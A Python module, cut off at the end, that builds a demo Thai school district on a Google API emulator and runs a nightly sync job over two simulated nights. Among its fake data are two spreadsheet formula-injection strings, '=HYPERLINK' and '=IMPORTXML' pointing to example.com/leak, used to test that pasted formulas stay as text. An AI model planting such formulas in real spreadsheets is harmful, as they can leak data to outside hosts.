"""`khet demo`: a realistic district on the embedded Google emulator, two nights of the real nightly job.

The generator (deterministic under a seed) makes schools in networks with Thai names, action plans with
budgets by category and source, quarterly progress, KPI self-assessments, requests and submission
confirmations — and a realistic share of late, missing and wrong entries. Every row has the day the school
typed it (and, for a mistake, the day it was fixed), so the sheets can be shown "as of" any night.

The flow: fresh state in ``.khet/demo/`` (each run starts over and says so — a demo must be repeatable);
provision every school from the template exactly as ``khet schools provision`` does; each school types what
it had by night 1 (as the school's own Google account); the nightly job runs; schools edit (fix mistakes,
confirm late, add the next quarter; one renames a tab, one sheet starts failing
on Google's side); the job runs again; the summary workbook's path is printed with the summary.

Demo nights are in fiscal year 2569 (25 May 2026, a week before the action plan is due, and 20 July 2026,
after quarter 3's progress was due): the current fiscal year has nothing due yet in November, which would
show little. The demo lifts the emulator's per-minute quota: it shows the flow, not the pacing
(``benchmarks/bench_read.py`` measures pacing under the real quota). The emulator keeps its files in memory
(its SQLite mode writes every change and would double the demo's time); what the demo leaves in the state
folder is Khet's own: history.sqlite, registry.csv, logs/, runs/*.json, out/khet-summary-2569.xlsx, keys/.
"""

from __future__ import annotations

import datetime as dt
import random
import shutil
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pandas as pd

from addin.status import TIMEZONE
from addin.thaidate import format_thai_date
from sync.aggregate import KPI_LEVEL_DISTRICT_TH, report_dues
from sync.demo_settings import demo_settings
from sync.reporting.demo_staff import write_demo_documents
from sync.textwidth import cut, table
from sync.update import record_versions
from workbook.reports import REPORTS_BY_KEY
from workbook.settings import DistrictSettings
from workbook.sheets import (
    BUDGET_CATEGORY_COLUMNS,
    BUDGET_SOURCES,
    DISTRICT_STRATEGIES,
    KPI_ROUNDS,
    OBEC_POLICIES,
    SCHOOL_SIZES,
    SHEETS,
)

FY = 2569
NIGHT_1 = dt.date(2026, 5, 25)
NIGHT_2 = dt.date(2026, 7, 20)
YEAR_START = dt.date(2025, 10, 1)
BEFORE_1 = dt.date(2026, 5, 10)     # typed well before night 1
BETWEEN = dt.date(2026, 6, 15)      # typed between the nights (after the plan's due date)
NEVER = None
DISTRICT_NAME = "สพป.ตัวอย่าง (สาธิต)"
HIGHER = "มากกว่าหรือเท่ากับดีกว่า"

PLACES = ("หนองบัว", "โนนสูง", "ดอนตาล", "นาแก", "โพนทอง", "ห้วยยาง", "หนองแสง", "คำเตย", "นาคู", "บ้านแพง",
          "ท่าอุเทน", "โพนสวรรค์", "ศรีสงคราม", "นาหว้า", "ปลาปาก", "วังยาง", "เรณูนคร", "นาทม", "ธาตุพนม",
          "นาถ่อน", "หนองญาติ", "กุรุคุ", "อาจสามารถ", "ดงขวาง", "บ้านผึ้ง", "ขามเฒ่า", "นาราชควาย", "โคกหินแฮ่",
          "หนองเทา", "นางัว", "สามผง", "ไชยบุรี", "พนอม", "นาเดื่อ", "ดอนเตย", "โนนตาล", "ท่าจำปา", "คำพอก",
          "บะหว้า", "นาขมิ้น")
FIRST = ("สมชาย", "สมศรี", "วิไลวรรณ", "ประเสริฐ", "กาญจนา", "สุริยา", "อำนวย", "พรทิพย์", "ธนพล", "ศิริพร",
         "บุญมี", "จันทร์เพ็ญ", "เกศินี", "ณัฐวุฒิ", "ปิยะนุช", "วีระพงษ์")
LAST = ("ศรีสุข", "แก้วมณี", "บุญประเสริฐ", "พลอาสา", "ทองดี", "วงศ์สุวรรณ", "ไชยวงศ์", "จันทร์หอม",
        "สายสุด", "ภูมิพันธ์", "คำแสน", "อินทร์ธิแสง")
PROJECTS = ("ยกระดับผลสัมฤทธิ์ทางการเรียน", "ห้องสมุดมีชีวิต", "โรงเรียนปลอดภัย", "อาหารกลางวันถูกหลักโภชนาการ",
            "พัฒนาครูสู่มืออาชีพ", "ปรับปรุงห้องน้ำนักเรียน", "ส่งเสริมการอ่านออกเขียนได้", "คอมพิวเตอร์เพื่อการเรียนรู้",
            "ลูกเสือและเนตรนารี", "ทัศนศึกษาแหล่งเรียนรู้", "ซ่อมแซมอาคารเรียน", "ระบบดูแลช่วยเหลือนักเรียน",
            "ส่งเสริมคุณธรรมจริยธรรม", "สนามกีฬาและสุขภาพ")
KPIS = (("K1", "ร้อยละของนักเรียนชั้น ป.1 ที่อ่านออกเขียนได้", "ร้อยละ", 85),
        ("K2", "ร้อยละของครูที่ได้รับการพัฒนาอย่างน้อย 20 ชั่วโมงต่อปี", "ร้อยละ", 90),
        ("K3", "จำนวนครั้งของการนิเทศภายในต่อภาคเรียน", "ครั้ง", 4),
        ("K4", "ร้อยละของนักเรียนที่มีน้ำหนักและส่วนสูงตามเกณฑ์", "ร้อยละ", 80))
REQUEST_ITEMS = (("ครุภัณฑ์คอมพิวเตอร์ 10 ชุด", "งบลงทุน: ครุภัณฑ์"), ("ซ่อมหลังคาอาคารเรียน", "งบลงทุน: ที่ดินและสิ่งก่อสร้าง"),
                 ("ทุนการศึกษานักเรียนยากจน", "งบเงินอุดหนุน"), ("วัสดุการเรียนการสอน", "งบดำเนินงาน"))
INJECTION = '=HYPERLINK("http://example.com/x","ดูรายละเอียด")'
INJECTION_MONEY = '=IMPORTXML("http://example.com/leak","//a")'


@dataclass
class Row:
    """One row a school types: its versions over time (from-date → values); invisible before the first."""

    versions: list[tuple[dt.date, dict[str, Any]]]

    def at(self, day: dt.date) -> dict[str, Any] | None:
        current = None
        for start, values in self.versions:
            if start <= day:
                current = values
        return current


@dataclass
class DemoSchool:
    index: int
    code: str
    name: str
    network: str
    email: str
    scenario: str
    rows: dict[str, list[Row]] = field(default_factory=dict)

    def last_edit(self, day: dt.date) -> dt.date:
        """The last day on or before ``day`` the school typed or changed anything."""
        starts = [start for rows in self.rows.values() for r in rows for start, _ in r.versions if start <= day]
        return max(starts, default=day)

    def grids(self, day: dt.date) -> dict[str, list[list[Any]]]:
        """Each input tab's data rows (from row 3) as the school had typed them by ``day``."""
        out = {}
        for key, rows in self.rows.items():
            sheet = SHEETS[key]
            data = [[vals.get(k, "") for k in sheet.keys()] for r in rows if (vals := r.at(day)) is not None]
            out[key] = [_trim(r) for r in data]
        return out


def _trim(row: list[Any]) -> list[Any]:
    while row and row[-1] in ("", None):
        row.pop()
    return row


def _money(rng: random.Random, lo: int, hi: int) -> Decimal:
    return Decimal(rng.randrange(lo * 4, hi * 4)) / 4  # quarters of a baht: exact satang, never floats


def _d(day: dt.date) -> str:
    return format_thai_date(day)  # schools type Thai dates ("1 ต.ค. 2568"); validation reads them


def demo_networks(n_networks: int) -> list[str]:
    return [f"เครือข่ายที่ {i + 1} {PLACES[(i * 7) % len(PLACES)]}" for i in range(n_networks)]


def generate_district(n_schools: int = 60, n_networks: int = 6, seed: int = 0,
                      settings: DistrictSettings | None = None, added_kpis: tuple = ()) -> list[DemoSchool]:
    """The demo's schools and what each types when. With `settings` (the demo district's own, sync.demo_settings)
    the schools choose from its strategies, type results into its KPI rows (pre-filled by provisioning, a ninth
    KPI arriving mid-year: `added_kpis`, typed between the nights) and the networks it names send its extra
    report; without, the shipped defaults."""
    rng = random.Random(seed)
    networks = demo_networks(n_networks)
    scenarios = (["on_time"] * 62 + ["late"] * 10 + ["wrong_fixed"] * 10 + ["wrong"] * 6 + ["missing"] * 6
                 + ["absent"] * 6)
    # The first ten schools show every case even in a small district (tests use ten); the rest are drawn.
    first = ("on_time", "wrong", "late", "on_time", "missing", "wrong_fixed", "on_time", "absent", "on_time",
             "on_time")
    schools = []
    for i in range(n_schools):
        place = PLACES[i % len(PLACES)] + ("" if i < len(PLACES) else f" {i // len(PLACES) + 1}")
        s = DemoSchool(i, f"1048{i + 1:06d}", f"โรงเรียนบ้าน{place}", networks[i % n_networks],
                       f"school{i + 1:03d}@khet-demo.iam.gserviceaccount.com",
                       first[i] if i < len(first) else rng.choice(scenarios))
        _fill(s, random.Random(seed * 1000 + i), settings, added_kpis)
        schools.append(s)
    return schools


def _person(rng: random.Random) -> str:
    return f"{rng.choice(('นาย', 'นาง', 'นางสาว'))}{rng.choice(FIRST)} {rng.choice(LAST)}"


def _confirm(report_key: str, day: dt.date, who: str, title: str | None = None, sent: dt.date | None = None) -> Row:
    """The school's confirmation typed on `day`; `sent`: the date it types as sent (default `day`)."""
    return Row([(day, {"report": title or REPORTS_BY_KEY[report_key].title_th, "fiscal_year": FY, "submitted_by": who,
                       "position": "ครูผู้รับผิดชอบงานแผน", "submitted_on": _d(sent or day), "confirmed": "ใช่"})])


def _sent_before_khet(s: DemoSchool, key: str, day: dt.date | None) -> dt.date | None:
    """The date a school types for a report due before the district started tracking with Khet (night 1), when
    it fills the sheet in May: the report went by paper or LINE around its due date, a late school's after it
    (accepted as ตามที่โรงเรียนแจ้ง: addin.ontime's claim rule). None: the report is typed as sent on `day`.
    A generator of its own, so the district's other draws stay as they were."""
    due = report_dues(FY).get(key)
    if day is None or due is None or day < due or day > NIGHT_1:
        return None
    rng = random.Random(f"{s.code}:{key}")
    late = s.scenario == "late" or rng.random() < 0.1
    sent = due + dt.timedelta(days=rng.randint(3, 20)) if late else due - dt.timedelta(days=rng.randint(0, 10))
    return min(sent, day)


def _fill(s: DemoSchool, rng: random.Random, settings: DistrictSettings | None = None, added_kpis: tuple = ()) -> None:
    plan, progress, kpi, requests, confirms = [], [], [], [], []
    strategies = tuple(x.name for x in settings.strategies) if settings else DISTRICT_STRATEGIES
    clerk = _person(rng)
    s.rows["school_profile"] = [Row([(BEFORE_1 - dt.timedelta(days=60), {
        "school_code": s.code, "school_name": s.name, "network": s.network, "size": rng.choice(SCHOOL_SIZES),
        "students": rng.randint(40, 1500), "teachers": rng.randint(4, 70), "director": _person(rng),
        "contact_name": clerk, "phone": f"042-{rng.randint(500000, 599999)}", "contact_email": s.email,
        "fiscal_year": FY, "updated_on": _d(BEFORE_1 - dt.timedelta(days=60))})])]

    # Action plan: typed by night 1 except for the absent; mistakes per scenario.
    n_projects = rng.randint(3, 7)
    names = rng.sample(PROJECTS, n_projects)
    big = s.index == 4  # one school plans a new building: far above the district's distribution
    for j, name in enumerate(names):
        cats = rng.sample([c.key for c in BUDGET_CATEGORY_COLUMNS if c.key != "budget_personnel"], rng.randint(1, 2))
        amounts = {c: _money(rng, 2_000, 60_000) for c in cats}
        if big and j == 0:
            amounts = {"budget_construction": Decimal("4850000.00")}
        values = {"project_code": f"P{j + 1:02d}", "project_name": name, "obec_policy": rng.choice(OBEC_POLICIES),
                  "district_strategy": rng.choice(strategies), "budget_source": rng.choice(BUDGET_SOURCES),
                  **{k: float(v) for k, v in amounts.items()}, "budget_total": float(sum(amounts.values())),
                  "responsible": _person(rng), "start_date": _d(dt.date(2025, 10, 1)),
                  "end_date": _d(dt.date(2026, 9, 30)), "indicator": f"ร้อยละความสำเร็จของโครงการ{name}",
                  "unit": "ร้อยละ", "direction": HIGHER, "target": 80}
        if s.index == 8 and j == 1:
            # Pasted as text by the school: must stay text downstream (the money cell is also a finding).
            values["project_name"] = INJECTION
            values["budget_other"] = INJECTION_MONEY
        versions = [(BEFORE_1, values)]
        if j == 0 and s.scenario in ("wrong", "wrong_fixed"):
            bad = dict(values, budget_total=float(sum(amounts.values())) + 1000, end_date="31/02/2569")
            versions = [(BEFORE_1, bad)] + ([(BETWEEN, values)] if s.scenario == "wrong_fixed" else [])
        if s.scenario != "absent":
            plan.append(Row(versions))
    plan_confirm = {"on_time": BEFORE_1, "late": BETWEEN, "wrong_fixed": BEFORE_1, "wrong": BEFORE_1}
    if s.scenario in plan_confirm:
        confirms.append(_confirm("action_plan", plan_confirm[s.scenario], clerk))

    # Progress per quarter: Q1 and Q2 mostly before night 1, Q3 between the nights.
    for q, usual in ((1, BEFORE_1), (2, BEFORE_1), (3, BETWEEN)):
        draw = rng.random()
        when = usual if draw < 0.8 else (BETWEEN if draw < 0.9 else NEVER)
        if when is NEVER or s.scenario == "absent":
            continue
        for j, name in enumerate(names):
            total = Decimal(str(plan[j].versions[-1][1]["budget_total"])) if j < len(plan) else Decimal(0)
            pct = min(100, q * rng.randint(18, 34))
            status = "ดำเนินการแล้วเสร็จ" if pct == 100 else rng.choice(("กำลังดำเนินการ", "กำลังดำเนินการ",
                                                                          "ล่าช้ากว่าแผน"))
            spent = (total * pct / 100).quantize(Decimal("0.01"))
            progress.append(Row([(when, {"project_code": f"P{j + 1:02d}", "project_name": name, "quarter": str(q),
                                         "status": status, "progress_pct": pct, "budget_total": float(total),
                                         "spent": float(spent), "indicator_result": pct,
                                         "problems": rng.choice(("", "งบประมาณโอนล่าช้า", "ครูติดภารกิจอบรม")),
                                         "reported_on": _d(when)})]))
        confirms.append(_confirm(f"progress_q{q}", when, clerk, sent=_sent_before_khet(s, f"progress_q{q}", when)))

    # KPI self-assessment, 6-month round.
    draw = rng.random()
    when = BEFORE_1 if draw < 0.75 else (BETWEEN if draw < 0.85 else NEVER)
    if settings is not None:
        kpi = _district_kpis(s, rng, when, settings, added_kpis)
        if when is not NEVER and s.scenario != "absent":
            confirms.append(_confirm("kpi_6m", when, clerk, sent=_sent_before_khet(s, "kpi_6m", when)))
        extra = [r for r in settings.reports if r.key not in REPORTS_BY_KEY
                 and r.applies({"school_code": s.code, "network": s.network})]
        for r in extra if s.scenario not in ("absent", "missing") else ():
            day = {"on_time": BEFORE_1, "late": LATE_EXTRA}.get(s.scenario, BETWEEN)
            confirms.append(_confirm(r.key, day, clerk, r.title_th))
    elif when is not NEVER and s.scenario != "absent":
        for code, name, unit, target in KPIS:
            result = round(target * rng.uniform(0.75, 1.2), 1) if unit == "ร้อยละ" else rng.randint(2, 6)
            values = {"round": "6 เดือน", "indicator_code": code, "indicator": name, "unit": unit,
                      "direction": HIGHER, "target": target, "result": min(result, 100),
                      "quality_level": rng.randint(2, 5),
                      "evidence_url": f"https://drive.google.com/drive/folders/demo{s.index}{code}"}
            if code == "K3" and rng.random() < 0.1:
                values["quality_level"] = 7  # out of range: a finding on the school's feedback tab
            kpi.append(Row([(when, values)]))
        confirms.append(_confirm("kpi_6m", when, clerk, sent=_sent_before_khet(s, "kpi_6m", when)))

    # Requests (due at year end; not confirmed yet): about half the schools.
    if rng.random() < 0.5 and s.scenario != "absent":
        for n, (item, cat) in enumerate(rng.sample(REQUEST_ITEMS, rng.randint(1, 2))):
            requests.append(Row([(rng.choice((BEFORE_1, BETWEEN)), {
                "request_no": f"R{n + 1:02d}", "request_type": "คำขอรับงบประมาณ", "item": item, "category": cat,
                "quantity": 1, "unit": "รายการ", "amount": float(_money(rng, 5_000, 250_000)),
                "source": "สพฐ./เขตพื้นที่", "reason": "เพื่อพัฒนาคุณภาพการจัดการเรียนรู้", "priority": n + 1})]))
    s.rows.update({"action_plan": plan, "progress": progress, "kpi": kpi, "requests": requests,
                   "submission": confirms})


LATE_EXTRA = dt.date(2026, 7, 5)  # after the extra report's month, before night 2


def _district_kpis(s: DemoSchool, rng: random.Random, when, settings: DistrictSettings, added: tuple) -> list[Row]:
    """The KPI tab as provisioning pre-filled it (the district's indicators and this school's targets, rows
    from 3: both rounds) with the school's 6-month results typed in; the KPIs the district adds mid-year land
    below, where `khet schools update` appends them, and the school types their 6-month result too. The rows
    are positional (the school types into its own pre-filled rows), so every position is a Row from the start."""
    size = s.rows["school_profile"][0].versions[0][1]["size"]
    typed = when is not NEVER and s.scenario != "absent"

    def given(k, rnd: str) -> dict:
        return {"round": rnd, "indicator_code": k.code, "indicator": k.name, "unit": k.unit,
                "direction": k.direction, "target": k.target_for(s.code, size)}

    def result(k, target: float) -> dict:
        if k.direction != HIGHER:
            value = round(rng.uniform(0, 2 * target), 1)
        elif k.unit == "ร้อยละ":
            value = min(100, round(target * rng.uniform(0.8, 1.2), 1))
        else:
            value = rng.randint(max(1, int(target) - 2), int(target) + 2)
        level = 7 if k.code == "K3" and rng.random() < 0.1 else rng.randint(2, 5)  # 7: out of range, a finding
        return {"result": value, "quality_level": level,
                "evidence_url": f"https://drive.google.com/drive/folders/demo{s.index}{k.code}"}

    rows = []
    for k in settings.kpis:
        base = given(k, KPI_ROUNDS[0])
        rows.append(Row([(YEAR_START, base)] + ([(when, {**base, **result(k, base["target"])})] if typed else [])))
    if added:
        rows += [Row([(BETWEEN, given(k, KPI_ROUNDS[1]))]) for k in settings.kpis]
        for k in added:
            base = given(k, KPI_ROUNDS[0])
            rows.append(Row([(BETWEEN, {**base, **(result(k, base["target"]) if s.scenario != "absent" else {})})]))
    return rows


# --- the flow -------------------------------------------------------------------------------------------------

def _write_school(client, sid: str, grids: dict[str, list[list[Any]]], titles: dict[str, str]) -> None:
    """What the school typed, one batch: numbers as numbers, text as typed (RAW keeps "=…" pasted text as text)."""
    data = [{"range": f"'{titles.get(k, SHEETS[k].title_th)}'!A{SHEETS[k].first_data_row}", "values": g}
            for k, g in grids.items() if g]
    if data:
        client.http_client.values_batch_update(sid, body={"valueInputOption": "RAW", "data": data})


def night_time(day: dt.date) -> dt.datetime:
    """02:00 in Bangkok on ``day`` (the usual nightly run), as UTC."""
    return dt.datetime(day.year, day.month, day.day, 2, 0, tzinfo=TIMEZONE).astimezone(dt.UTC)


@dataclass
class DemoResult:
    state_dir: Path
    xlsx: Path
    reports: list
    seconds: float
    schools: int
    reminded: Any = None  # sync.demo_loop.Reminded: the morning after night 2
    documents: dict[str, Path] = field(default_factory=dict)  # annual report, e-MES/eMENSCR exports, cards


@dataclass
class DemoDistrict:
    """A provisioned district on an emulator: what the demo and the job tests drive."""

    emu: Any
    state: Path
    schools: list[DemoSchool]
    registry: Any
    ids: dict[str, str]                   # school code → spreadsheet ID
    district_id: str
    key: Path
    clients: dict[str, Any]               # school code → gspread client signed in AS that school
    seed: int = 0
    provisioned: list = field(default_factory=list)  # provisioning's outcomes (their template versions)
    titles: dict[str, dict[str, str]] = field(default_factory=dict)  # renamed tabs, per school

    def type_as_of(self, day: dt.date, only: set[str] | None = None) -> None:
        """Every school (or ``only`` these) writes what it had typed by ``day``, on the emulator's file clock at
        the afternoon of its last edit before ``day`` (so Drive's modifiedTime tells when, as it would)."""
        todo = [s for s in self.schools if only is None or s.code in only]
        by_day: dict[dt.date, list[DemoSchool]] = {}
        for s in todo:
            by_day.setdefault(s.last_edit(day), []).append(s)

        def one(s: DemoSchool) -> None:
            _write_school(self.clients[s.code], self.ids[s.code], s.grids(day), self.titles.get(s.code, {}))
        for edit_day in sorted(by_day):
            self.emu.set_file_clock(dt.datetime.combine(edit_day, dt.time(15, 0), TIMEZONE))
            with ThreadPoolExecutor(8) as pool:
                list(pool.map(one, by_day[edit_day]))

    def job_clients(self, *, tries: int = 3, timeout: float = 30):
        """(read, write) clients of the district account: the production client, quota lifted, short backoffs."""
        from sync.gclient import SCOPES_READ, SCOPES_WRITE, connect
        from sync.http import Pacing, RetryPolicy, paced_client

        factory = paced_client(Pacing(1_000_000, 1_000_000), RetryPolicy(tries, 0.05, 0.2, timeout), seed=self.seed)
        return (connect(self.key, SCOPES_READ, endpoint=self.emu.url, http_client=factory),
                connect(self.key, SCOPES_WRITE, endpoint=self.emu.url, http_client=factory))


def setup_district(emu, state: Path, schools: list[DemoSchool], *, seed: int = 0,
                   since: dt.datetime | None = None, settings: DistrictSettings | None = None) -> DemoDistrict:
    """Template, registry (with each school's size), provisioning (as ``khet schools provision``, with the
    district's `settings`: its dropdowns, its KPI rows and targets), the district sheet, school accounts; the
    files are stamped at ``since`` on the emulator's file clock (default: the demo year's first day)."""
    emu.set_file_clock(since or dt.datetime.combine(YEAR_START, dt.time(9, 0), TIMEZONE))
    from sync.gclient import SCOPES_PROVISION, connect
    from sync.google_template import ensure_template
    from sync.provision import provision
    from sync.registry import School, load_registry, write_csv_registry

    key = emu.service_account(path=state / "keys" / "khet-sync.json")
    admin = connect(key, SCOPES_PROVISION, endpoint=emu.url)
    template_id, _ = ensure_template(admin, None)
    registry = load_registry(write_csv_registry(state / "registry.csv", [
        School(s.code, s.name, s.email, s.network, size=s.rows["school_profile"][0].versions[0][1]["size"])
        for s in schools]))
    result = provision(admin, registry, template_id=template_id, folder_id=None, settings=settings, fiscal_year=FY)
    failed = [o for o in result.outcomes if o.status == "failed"]
    if failed:
        raise RuntimeError(f"provisioning failed for {len(failed)} schools: {failed[0]}")
    district_id = admin.create(f"สรุปภาพรวมเขต ปีงบประมาณ {FY} (Khet demo)").id
    ids = {s.code: s.spreadsheet_id for s in registry.active()}
    with ThreadPoolExecutor(8) as pool:
        clients = dict(zip([s.code for s in schools],
                           pool.map(lambda s: connect(emu.service_account(s.email), SCOPES_PROVISION, endpoint=emu.url, timeout=30),
                                    schools), strict=True))
    return DemoDistrict(emu, state, schools, registry, ids, district_id, key, clients, seed,
                        provisioned=result.outcomes)


# What a demo leaves in its folder; a folder holding anything else is not wiped.
SETTINGS_FILE = "district-settings.xlsx"  # the job host's settings file ([paths] settings)
DEMO_STATE_NAMES = frozenset({"history.sqlite", "history.sqlite-wal", "history.sqlite-shm", "keys", "logs", "out",
                              "registry.csv", "runs", "sync.lock", "khet-staff.xlsx", "outbox", SETTINGS_FILE})


def _is_demo_state(path: Path) -> bool:
    return path.is_dir() and all(p.name in DEMO_STATE_NAMES for p in path.iterdir())


def fresh_state(state: Path, say: Callable[[str], None]) -> None:
    """An empty demo folder: a previous demo's is wiped (and said); one holding anything else is refused."""
    if state.exists() and not _is_demo_state(state):  # `--dir .` must never wipe someone's folder
        raise ValueError(f"{state} มีไฟล์ที่ไม่ใช่ของการสาธิต จึงไม่ลบ — ระบุโฟลเดอร์ใหม่หรือโฟลเดอร์ว่างด้วย --dir / "
                         f"{state} holds files that are not a demo's, so it is not wiped — give a new or empty "
                         f"folder with --dir")
    if state.exists():
        say(f"เริ่มใหม่: ลบสถานะการสาธิตเดิมใน {state} / starting fresh: removed the previous demo state in {state}")
        shutil.rmtree(state)
    state.mkdir(parents=True)


def run_demo(state_dir: str | Path = ".khet/demo", *, n_schools: int = 60, n_networks: int = 6, seed: int = 0,
             say: Callable[[str], None] = print, progress: bool | None = None) -> DemoResult:
    from addin.workdays import next_workday
    from sync.demo_loop import STAFF_FILE, send_reminders, staff_decisions, write_staff_workbook
    from sync.emulator import Emulator
    from sync.history import History
    from sync.job import JobSettings, run_locked
    from workbook.templates import save_settings_file

    t0 = time.perf_counter()
    state = Path(state_dir)
    fresh_state(state, say)
    # The district's own settings (its settings tabs; the job host keeps them as a settings file) and the
    # change it makes mid-year.
    networks = demo_networks(n_networks)
    district, later = demo_settings(networks, FY), demo_settings(networks, FY, mid_year_change=True)
    added = tuple(k for k in later.kpis if k not in district.kpis)
    schools = generate_district(n_schools, n_networks, seed, settings=district, added_kpis=added)
    settings_file = save_settings_file(state / SETTINGS_FILE, district)
    with Emulator(key_dir=state / "keys", seed=seed, user_quota=1_000_000, project_quota=1_000_000) as emu:
        dd = setup_district(emu, state, schools, seed=seed, settings=district)
        say(f"จำลอง Google ที่ {emu.url}: สร้างชีตโรงเรียน {len(schools)} โรง ใน {n_networks} เครือข่าย ตามค่าตั้งของเขต "
            f"({len(district.strategies)} กลยุทธ์ของเขต, ตัวชี้วัดเขต {len(district.kpis)} ตัว เป้าหมายตามขนาดโรงเรียน, "
            f"รายงานเพิ่ม “{later.reports[-1].title_th}” เฉพาะ {len(later.reports[-1].applies_values)} เครือข่าย) / provisioned {len(schools)} school "
            f"sheets on the district's own settings ({settings_file.name})")
        history = History(state / "history.sqlite")
        record_versions(history, dd.provisioned)
        read, write = dd.job_clients()
        reports = []
        try:
            for night, day in enumerate((NIGHT_1, NIGHT_2), start=1):
                if night == 2:
                    district = later
                    for line in mid_year_change(dd, settings_file, later, history):
                        say(line)
                if night == 2 and len(schools) > 12:
                    rename_a_tab(dd, schools[6])
                dd.type_as_of(day)
                if night == 2 and len(schools) > 12:
                    # One school's sheet starts failing on Google's side (a 500 on every request).
                    emu.configure(file_faults={dd.ids[schools[12].code]: {"error_500": 1.0}})
                    say(f"  (จำลองความขัดข้อง: ชีตของโรงเรียน {schools[12].code} ตอบ 500 ทุกคำขอในคืนนี้ — อ่านไม่ได้และล็อก"
                        f"แถวที่อนุมัติไม่ได้ จะทำในรอบถัดไป / injected fault: {schools[12].code}'s sheet answers 500"
                        " tonight; its read and its approval lock fail and are retried next run)")
                # District staff keep the staff workbook's trackers (service requests, recommendations) too.
                staff = write_staff_workbook(state / STAFF_FILE, schools, seed=seed, until=day, settings=district)
                say(f"\nคืนที่ {night}: {format_thai_date(day, 'long')} — โรงเรียนกรอกข้อมูลแล้ว, เริ่มงานประมวลผลรายคืน"
                    f" / night {night}: the schools typed their data; running the nightly job")
                emu.set_file_clock(night_time(day))  # the job's own writes happen at night
                settings = JobSettings(history=history, registry=dd.registry, read_client=read, write_client=write,
                                       district_spreadsheet_id=dd.district_id, report_dir=state / "out",
                                       fiscal_year=FY, today=day, trigger="demo", progress=progress,
                                       now=night_time(day), staff_workbook=staff,
                                       district_name=DISTRICT_NAME, settings=district)
                rep = run_locked(settings, lock_path=state / "sync.lock", log_dir=state / "logs",
                                 json_dir=state / "runs")
                reports.append(rep)
                c = rep.counts
                say(f"  ผล/result: exit {rep.exit_code} ({rep.status}) — อ่าน {c.get('schools_read', 0)},"
                    f" ไม่เปลี่ยน {c.get('schools_unchanged', 0)}, อ่านไม่ได้ {c.get('schools_failed', 0)};"
                    f" แถวถูกต้อง {c.get('rows_clean', 0)}, แถวมีข้อผิดพลาด {c.get('rows_rejected', 0)};"
                    f" คำขออ่าน {c.get('read_requests', 0)}")
                if rep.exit_code not in (0, 1):
                    raise RuntimeError(f"{rep.message_th} / {rep.message_en}")
                if night == 1:
                    decided_on = next_workday(day)
                    say(f"\nเช้า {format_thai_date(decided_on, 'long')}: เจ้าหน้าที่เขตพิจารณาแผนปฏิบัติการที่ส่งแล้ว "
                        "(ปุ่ม ส่งผลการพิจารณา → คำขอถึงงานประมวลผล) / staff approve and return the action plans sent")
                    decided = staff_decisions(history, state / "registry.csv", rep.summary, day=decided_on)
                    for line in decided.lines():
                        say(line)
            say(f"\nเช้าหลังคืนที่ 2: {format_thai_date(NIGHT_2, 'long')} 09:00 — khet remind (อีเมลผ่าน SMTP, LINE ผ่าน"
                f" line-bot-sdk) / the morning after night 2: reminders by e-mail and LINE")
            reminded = send_reminders(state, dd.registry, history, staff, day=NIGHT_2, seed=seed,
                                      titles={r.key: r.title_th for r in district.reports})
        finally:
            history.close()
    xlsx = Path(reports[-1].outputs["xlsx"])
    say("\nเขียนรายงานประจำปี ไฟล์ e-MES/eMENSCR และบัตรรายงานผลรายโรงเรียน / writing the annual report, the e-MES and "
        "eMENSCR exports and the school report cards")
    documents = write_demo_documents(state, FY, NIGHT_2, DISTRICT_NAME, staff, settings_file)
    return DemoResult(state, xlsx, reports, time.perf_counter() - t0, len(schools), reminded, documents)


MID_YEAR = dt.datetime(2026, 6, 1, 10, 0, tzinfo=TIMEZONE)  # between the nights, before the schools type again


def mid_year_change(dd: DemoDistrict, settings_file: Path, later: DistrictSettings, history) -> list[str]:
    """Mid-year the district adds a strategy and a ninth KPI in its settings tabs (the job host keeps the new
    settings file, as a settings_change request does), then brings every live school sheet to them exactly as
    `khet schools update` does: the new dropdown list, the new KPI rows with each school's target, the
    template version — never touching a cell a school typed. Returns what the demo prints."""
    from sync.gclient import SCOPES_PROVISION, connect
    from sync.update import record_versions, template_version, update_schools
    from workbook.templates import save_settings_file

    save_settings_file(settings_file, later)
    dd.emu.set_file_clock(MID_YEAR)
    admin = connect(dd.key, SCOPES_PROVISION, endpoint=dd.emu.url)
    outcomes = update_schools(admin, dd.registry, later.for_year(FY))
    record_versions(history, outcomes)
    updated = [o for o in outcomes if o.status == "updated"]
    first = updated[0] if updated else None
    lines = [f"\nกลางปี: {format_thai_date(MID_YEAR.date(), 'long')} — เขตเพิ่มกลยุทธ์ “{later.strategies[-1].name}” และตัวชี้วัด "
             f"{later.kpis[-1].code} “{later.kpis[-1].name}” ในแท็บตั้งค่า แล้วสั่ง khet schools update / mid-year the "
             f"district adds a strategy and a KPI in its settings tabs and runs khet schools update",
             f"  ปรับชีตโรงเรียนแล้ว {len(updated)}/{len(outcomes)} แห่ง (คำขอ {sum(o.requests for o in outcomes)}; "
             f"ไม่แตะเซลล์ที่โรงเรียนกรอก) รุ่นแม่แบบ {first.version_from if first else '-'} → "
             f"{template_version(later.for_year(FY))} / {len(updated)} school sheets updated"]
    if first is not None:
        lines += [f"  ตัวอย่าง {first.code} {first.name}:"] + [f"    {th}" for th in first.notes_th]
    return lines


def rename_a_tab(dd: DemoDistrict, school: DemoSchool) -> None:
    """A school renames a tab between the nights (header rows are protected, so columns cannot be broken)."""
    sheet = SHEETS["requests"]
    ss = dd.clients[school.code].open_by_key(dd.ids[school.code])
    ss.worksheet(sheet.title_th).update_title(sheet.title_th + " (แก้ไข)")
    dd.titles.setdefault(school.code, {})["requests"] = sheet.title_th + " (แก้ไข)"


# --- terminal output ------------------------------------------------------------------------------------------

def tracker_lines(summary) -> list[str]:
    """Service standards per service and the inspection round report, for the terminal."""
    lines: list[str] = []
    st = summary.service_standards
    if len(st):
        whole = st[st["step_no"].isna()]
        lines += ["", "มาตรฐานการให้บริการ: เสร็จภายในมาตรฐานหรือไม่ / did we meet our own service standards?"]
        lines += table([[cut(r.service_th, 44), r.requests, r.done, r.within,
                         "-" if pd.isna(r.pct_within) else f"{r.pct_within:.2f}",
                         "-" if pd.isna(r.median_workdays) else f"{r.median_workdays:g}", r.open_overdue]
                        for r in whole.itertuples()],
                       ["งานบริการ", "คำขอ", "เสร็จ", "ตามมาตรฐาน", "ร้อยละ", "มัธยฐาน (วันทำการ)", "ค้างเกินกำหนด"],
                       right={1, 2, 3, 4, 5, 6})
        steps = st[st["step_no"].notna() & (st["judged"] > 0)]
